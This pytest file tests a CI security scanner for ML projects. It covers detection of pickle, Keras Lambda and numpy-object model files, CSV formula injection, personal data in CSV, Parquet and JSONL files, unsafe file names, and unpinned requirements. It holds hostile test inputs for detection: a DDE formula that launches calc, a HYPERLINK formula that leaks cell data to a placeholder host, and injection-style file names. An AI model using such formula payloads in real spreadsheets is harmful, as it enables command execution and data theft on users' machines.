"""Model formats by content, data in text form, and names that are safe to hand to a program."""

import pickle
import zipfile
from io import BytesIO
from pathlib import Path

import pyarrow as pa
import pytest
from pyarrow import parquet

from mlops_ci.scanner import Issue, Look
from mlops_ci.security import data_files, formats, kinds, syntax
from mlops_ci.security.stage import mirror


def looked(folder: Path, **files: bytes) -> list[str]:
    names = []
    for name, content in files.items():
        path = folder / name.replace("__", "/").replace("_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        names.append(path.relative_to(folder).as_posix())
    look = formats.scan(folder, tuple(names))
    return [one.rule for one in look.issues] + [f"unread {one.path}" for one in look.unread]


def zipped(name: str, content: bytes) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(name, content)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("m_pkl", pickle.dumps(1), ["pickle"]),
        ("m_bin", pickle.dumps(1, 2), ["torch"]),
        ("anything", pickle.dumps(1), ["pickle"]),
        ("old_pkl", pickle.dumps(1, 0), ["pickle"]),
        ("m_joblib", b"\x78\x9c packed", ["pickle"]),
        ("m_pt", zipped("archive/data.pkl", b""), ["torch"]),
        ("m_keras", zipped("config.json", b'{"class_name": "Lambda"}'), ["keras-lambda"]),
        ("m_keras", zipped("config.json", b'{"class_name": "Dense"}'), []),
        ("m_h5", b"\x89HDF\r\n\x1a\n" + b'..."class_name": "Lambda"...', ["keras-lambda"]),
        ("m_h5", b"\x89HDF\r\n\x1a\n" + b'..."class_name": "Dense"...', []),
        ("m_npz", zipped("a.npy", b"\x93NUMPY\x01\x00\x10\x00{'descr': '|O'}"), ["numpy-objects"]),
        ("m_npz", zipped("a.npy", b"\x93NUMPY\x01\x00\x10\x00{'descr': '<f8'}"), []),
        ("m_onnx", b"\x42\x08\x0a\x04acme\x10\x01", ["onnx-custom-ops"]),
        ("m_onnx", b"\x42\x04\x0a\x00\x10\x01", []),
        ("m_onnx", b"\x42\x7f", ["unread m.onnx"]),
        ("m_skops", zipped("schema.json", b"{}"), []),
        ("m_safetensors", b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ", []),
        ("code__model_py", b"print(1)", ["python"]),
        ("m_json", b"{}", []),
    ],
)
def test_a_format_is_told_by_its_content(tmp_path: Path, name: str, content: bytes, expected: list[str]) -> None:
    assert looked(tmp_path, **{name: content}) == expected


@pytest.mark.parametrize(
    ("cell", "severity"),
    [
        ("=cmd|' /C calc'!A0", "HIGH"),
        ('=HYPERLINK("http://x"&A1)', "HIGH"),
        ("=SUM(A1:A9)", "MEDIUM"),
        ("@SUM(1)", "MEDIUM"),
        ("-5", None),
        ("+3.5e-2", None),
        ("- none", None),
        ("@home", None),
        ("+49 123 456", None),
        ("=", None),
        ("=> see", None),
        ("a=b", None),
    ],
)
def test_formulas_are_told_from_text(tmp_path: Path, cell: str, severity: str | None) -> None:
    quoted = cell.replace('"', '""')
    (tmp_path / "d.csv").write_text(f'a\n"{quoted}"\n')
    found = [one for one in data_files.scan(tmp_path, ("d.csv",), ()).issues if one.rule == "csv-formula"]
    assert [one.severity for one in found] == ([severity] if severity else [])


@pytest.mark.parametrize(
    ("values", "found"),
    [
        (["ann@example.org", "bob@example.org", ""], True),
        (["+49 170 1234567", "+1 (202) 555-0100"], True),
        (["4111 1111 1111 1111"], True),  # the card number that everybody tests with
        (["4111 1111 1111 1112"], False),
        (["1234567890123456"], False),
        (["DE89370400440532013000"], True),
        (["DE00370400440532013000"], False),
        (["078-05-1120"], True),
        (["192.168.0.1"], True),
        (["300.1.2.3"], False),
        (["some", "words", "ann@example.org"], False),
    ],
)
def test_personal_data_are_told_by_what_most_values_are(tmp_path: Path, values: list[str], *, found: bool) -> None:
    (tmp_path / "d.csv").write_text("\n".join(["x", *values]))
    look = data_files.scan(tmp_path, ("d.csv",), ())
    assert bool(look.issues) is found
    assert data_files.scan(tmp_path, ("d.csv",), ("X",)).issues == ()
    assert not any(value in str(look) for value in values if value)


def test_parquet_is_looked_into_by_batches_and_what_is_none_is_unread(tmp_path: Path) -> None:
    rows = 25_000
    plain: list[object] = ["plain"] * rows
    table = {
        "mail": [f"{one}@example.org" for one in range(rows)],
        "note": [*plain[:-1], "=cmd|' /C calc'!A0"],
        "blob": [*[b"bytes"] * (rows - 1), pickle.dumps({})],
        "number": list(range(rows)),
    }
    parquet.write_table(pa.table(table), tmp_path / "a.parquet")
    parquet.write_table(pa.table({"x": [1.5]}), tmp_path / "numbers.parquet")
    (tmp_path / "b.parquet").write_bytes(b"PAR1 and no more")
    look = data_files.scan(tmp_path, ("a.parquet", "b.parquet", "numbers.parquet"), ())
    assert [(one.rule, one.name, one.severity) for one in look.issues] == [
        ("csv-formula", "note", "HIGH"),
        ("pickle-in-data", "blob", "HIGH"),
        ("personal-data", "mail", "MEDIUM"),
    ]
    assert "25,000" in look.issues[0].text
    assert [one.path for one in look.unread] == ["b.parquet"]
    assert not [one for one in data_files.scan(tmp_path, ("a.parquet",), ("mail",)).issues if one.name == "mail"]


def test_json_lines_are_looked_into_and_what_is_none_is_unread(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text('{"mail": "ann@example.org"}\n\n{"mail": "bob@example.org"}\n')
    (tmp_path / "b.jsonl").write_text("[1]\n{\n")
    look = data_files.scan(tmp_path, ("a.jsonl", "b.jsonl"), ())
    assert [one.name for one in look.issues] == ["mail"]
    assert [one.path for one in look.unread] == ["b.jsonl"]


def test_a_mirror_has_safe_names_and_leads_back_to_the_real_ones(tmp_path: Path) -> None:
    names = ["ok.py", "-x.py", "a\nb.py", ".trivyignore", "d/::x::.py", "node_modules/y.js"]
    for name in names:
        (tmp_path / "in" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "in" / name).write_text(name)
    stage = mirror(tmp_path / "in", [*names, "gone.py"], tmp_path / "out", as_text=True)
    there = sorted(
        one.relative_to(tmp_path / "out").as_posix() for one in (tmp_path / "out").rglob("*") if one.is_file()
    )
    assert "ok.py" in there
    assert not [one for one in there if one.startswith("-") or "\n" in one or "::" in one or "node_modules" in one]
    look = stage.real(Look(tuple(Issue("r", "", path=one) for one in there)))
    assert sorted(str(one.path) for one in look.issues) == sorted(names)
    assert [one.path for one in look.unread] == ["gone.py"]


def test_files_concern_scanners_by_their_names() -> None:
    files = ["Dockerfile", "a/Dockerfile.gpu", "x.dockerfile", "Dockerfiles.md"]
    files += [".github/workflows/a.yml", "action.yml", "t/.github/workflows/b.yaml"]
    files += ["chart/Chart.yaml", "chart/templates/a.tpl", "docker-compose.prod.yml", "main.tf"]
    files += ["requirements/base.txt", "requirements-dev.txt", "notes.txt"]
    assert kinds.dockerfiles(files) == ("Dockerfile", "a/Dockerfile.gpu", "x.dockerfile")
    assert kinds.workflows(files) == (".github/workflows/a.yml", "t/.github/workflows/b.yaml")
    assert kinds.requirements(files) == ("requirements/base.txt", "requirements-dev.txt")
    assert kinds.compose(files) == ("docker-compose.prod.yml",)
    assert {"chart/templates/a.tpl", "main.tf"} <= set(kinds.infrastructure(files))
    assert syntax.concerned(["chart/Chart.yaml", "chart/templates/a.yaml", "b.yml"]) == ("chart/Chart.yaml", "b.yml")


def test_what_pins_nothing_is_told_with_its_line(tmp_path: Path) -> None:
    text = "# a comment\nnumpy>=2\npandas==2.2.0 \\\n    --hash=sha256:0\n-r other.txt\nx @ https://example.org/x.whl\nscipy\n"
    (tmp_path / "requirements.txt").write_text(text)
    assert [(one.title, one.line) for one in syntax.unpinned(tmp_path).issues] == [
        ("numpy is not pinned", 2),
        ("scipy is not pinned", 6),
    ]
